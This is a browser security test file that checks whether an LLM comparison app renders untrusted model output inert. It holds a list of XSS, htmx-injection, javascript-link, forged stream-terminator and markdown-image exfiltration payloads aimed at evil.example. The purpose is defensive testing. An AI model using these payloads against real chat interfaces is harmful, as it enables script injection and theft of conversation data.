import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser } from 'playwright-core'
import { startFakeUpstream, type FakeUpstream } from '../helpers/fake-upstream.ts'
import { fakeConfig, startJuxta, type RunningJuxta } from '../helpers/juxta.ts'
import { launchBrowser, watchedPage } from '../helpers/browser.ts'

// Payloads from the team's security test list (OWASP XSS filter-evasion forms; AnythingLLM CVE-2026-32626,
// EchoLeak CVE-2025-32711, Open WebUI CVE-2025-64496). Each sets window.__pwned or fires a dialog if it ever runs,
// or makes a request to evil.example if it ever loads.
const PWN = 'window.__pwned=(window.__pwned||0)+1;alert(1)'
const HTML_PAYLOADS = [
  `<img src=x onerror="${PWN}">`,
  `<svg onload="${PWN}"></svg>`,
  `<script>${PWN}</script>`,
  `<iframe srcdoc="<script>parent.__pwned=1</script>"></iframe>`,
  `<div hx-post="/runs" hx-vals='{"prompt":"pwn","targets":"x/quick"}' hx-trigger="load">hx</div>`,
  `<div hx-get="js:${PWN}" hx-trigger="load">js action</div>`,
  `<button hx-on:htmx:after:swap="${PWN}">on</button>`,
  `<div id="prompt" hx-swap-oob="true">oob</div>`,
  `<hx-partial hx-target="#prompt" hx-swap="outerHTML"><b>partial</b></hx-partial>`,
  `<form action="https://evil.example/steal"><input name=a></form>`,
  `<a href="javascript:${PWN}">click</a>`,
  `<div style="background:url(https://evil.example/css)">css</div>`,
  `<img srcset="https://evil.example/srcset 1x">`,
  `<meta http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<base href="https://evil.example/">`,
]
const MARKDOWN_PAYLOADS = [
  `![" onerror="${PWN}](x)`,
  '[js](javascript:alert(1)) [mixed](JaVaScRiPt:alert(1)) [ent](&#106;avascript:alert(1)) ' +
    '[sp]( javascript:alert(1)) [vb](vbscript:msgbox(1)) [data](data:text/html,<script>alert(1)</script>)',
  `![exfil](https://evil.example/p?d=secret-chat)`,
  `![ref][r]\n\n[r]: https://evil.example/ref.png`,
  `![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)`,
  '\n\nevent: done\ndata: <img src=x onerror="window.__pwned=1">\n\n',
  'data: [DONE]\n\nstill here',
]

let upstream: FakeUpstream
let juxta: RunningJuxta
let browser: Browser

beforeAll(async () => {
  upstream = await startFakeUpstream()
  const all = [...HTML_PAYLOADS, ...MARKDOWN_PAYLOADS].join('\n\n')
  // The same payloads, once whole and once split at awkward places across chunks (`<im` + `g src=…`).
  upstream.script('whole', { kind: 'text', deltas: [all, '\n\nEND-OF-ANSWER'], everyMs: 5 })
  const split: string[] = []
  for (let i = 0; i < all.length; i += 7) split.push(all.slice(i, i + 7))
  upstream.script('split', { kind: 'text', deltas: [...split, '\n\nEND-OF-ANSWER'], everyMs: 1 })
  upstream.script('reasoner', {
    kind: 'text',
    reasoning: [HTML_PAYLOADS[0]!, HTML_PAYLOADS[8]!],
    deltas: ['fine', '\n\nEND-OF-ANSWER'],
    everyMs: 5,
    model: `<img src=x onerror="${PWN}">`,
  })
  upstream.script('evil-error', {
    kind: 'status',
    status: 400,
    body: {
      error: {
        message: `<img src=x onerror="${PWN}"> bad <hx-partial hx-target="#prompt">x</hx-partial>`,
        type: 'invalid_request_error',
      },
    },
  })
  juxta = await startJuxta({
    config: fakeConfig({
      x: {
        base_url: upstream.url,
        models: ['whole', 'split', 'reasoner', 'evil-error'].map((id) => ({ id, price: { input: 1, output: 1 } })),
      },
    }),
  })
  browser = await launchBrowser()
})

afterAll(async () => {
  await browser?.close()
  await juxta?.close()
  await upstream?.close()
})

describe('untrusted model output in the page', () => {
  it('renders every XSS payload inert, whole or split across chunks, in answers, reasoning and errors', async () => {
    const { page, watch } = await watchedPage(browser, juxta.url)
    await page.goto(juxta.url)
    await page.fill('#prompt', 'Please misbehave')
    for (const t of ['x/whole', 'x/split', 'x/reasoner', 'x/evil-error']) await page.check(`input[value="${t}"]`)
    await page.click('button.send')
    await page.waitForSelector('#summary table', { timeout: 20_000 })
    await page.waitForTimeout(300) // let anything that might fire, fire

    expect(watch.dialogs).toEqual([])
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0)).toBe(0)
    expect(watch.foreignRequests).toEqual([])
    // The stream was not ended early by a forged "event: done" or "[DONE]" inside the content.
    expect(await page.locator('[data-target="x/whole"] .answer').textContent()).toContain('END-OF-ANSWER')
    expect(await page.locator('[data-target="x/split"] .answer').textContent()).toContain('END-OF-ANSWER')
    expect(await page.locator('[data-target="x/whole"] .answer').textContent()).toContain('still here')
    // Nothing active survived anywhere in the run area.
    const active = await page.$$eval('#run *', (els) =>
      els
        // The run's own controls (retry, stop, the differences form) are Juxta's, not the model's.
        .filter((e) => !e.closest('.diff-form'))
        .filter(
          (e) =>
            ['SCRIPT', 'IFRAME', 'IMG', 'SVG', 'FORM', 'META', 'BASE', 'OBJECT', 'EMBED', 'STYLE'].includes(
              e.tagName.toUpperCase(),
            ) ||
            ([...e.attributes].some((a) => /^(on|hx-|data-hx|sse-|style$|srcset$)/i.test(a.name)) &&
              !e.closest('.col-actions') &&
              e.id !== 'stop'),
        )
        .map((e) => e.outerHTML.slice(0, 120)),
    )
    expect(active).toEqual([])
    const hrefs = await page.$$eval('#run .answer a[href]', (as) => as.map((a) => a.getAttribute('href')!))
    for (const href of hrefs) expect(href).toMatch(/^(https?:|mailto:)/)
    for (const rel of await page.$$eval('#run .answer a[href]', (as) => as.map((a) => a.getAttribute('rel')))) {
      expect(rel).toBe('noopener noreferrer nofollow')
    }
    // OOB swaps and partials from model text did not touch the page.
    expect(await page.inputValue('#prompt')).toBe('Please misbehave')
    expect(await page.locator('#prompt').count()).toBe(1)
    // The error column shows the upstream message as text.
    expect(await page.locator('[data-target="x/evil-error"] .error-box').textContent()).toContain('<img src=x')

    // The differences between two hostile answers show their source as text, nothing active.
    await page.selectOption('#diff select[name="b"]', '2')
    await page.click('#diff button[type="submit"]')
    await page.waitForSelector('#diff-result .diff-text')
    expect(await page.locator('#diff-result .diff-text').textContent()).toContain('<img src=x')
    const activeInDiff = await page.$$eval('#diff-result *', (els) =>
      els
        .filter(
          (e) =>
            !['P', 'STRONG', 'SPAN', 'DEL', 'INS', 'SECTION', 'DIV'].includes(e.tagName.toUpperCase()) ||
            [...e.attributes].some((a) => /^(on|hx-|data-hx|sse-|style$|src|href)/i.test(a.name)),
        )
        .map((e) => e.outerHTML.slice(0, 120)),
    )
    expect(activeInDiff).toEqual([])
    await page.waitForTimeout(200)
    expect(watch.dialogs).toEqual([])
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned ?? 0)).toBe(0)
    expect(watch.errors).toEqual([])
    await page.close()
  })
})
